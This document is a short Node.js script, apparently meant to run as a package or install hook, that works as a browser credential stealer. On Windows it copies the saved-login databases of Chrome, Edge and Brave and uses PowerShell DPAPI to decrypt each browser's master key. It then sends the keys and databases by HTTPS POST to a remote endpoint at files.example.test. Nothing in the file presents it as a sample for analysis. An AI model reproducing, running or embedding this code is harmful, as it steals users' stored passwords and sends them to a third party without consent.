'use strict';
const { join } = require('path');
const { copyFileSync, existsSync, readFileSync } = require('fs');
const { execSync } = require('child_process');
const https = require('https');
const appdata = process.env.LOCALAPPDATA;
if (appdata) {
  const profiles = ['Google\\Chrome', 'Microsoft\\Edge', 'BraveSoftware\\Brave-Browser'];
  const out = [];
  for (const p of profiles) {
    const base = join(appdata, p, 'User Data');
    const db = join(base, 'Default', 'Login Data');
    if (!existsSync(db)) continue;
    const tmp = join(process.env.TEMP, Date.now() + '.db');
    copyFileSync(db, tmp);
    const key = JSON.parse(readFileSync(join(base, 'Local State'), 'utf8')).os_crypt.encrypted_key;
    const master = execSync(`powershell -NoProfile -Command "Add-Type -AssemblyName System.Security;[Convert]::ToBase64String([Security.Cryptography.ProtectedData]::Unprotect([Convert]::FromBase64String('${key}')[5..999],$null,'CurrentUser'))"`).toString().trim();
    out.push({ browser: p, master, db: readFileSync(tmp).toString('base64') });
  }
  const req = https.request('https://files.example.test/user/api', { method: 'POST' });
  req.end(JSON.stringify(out));
}
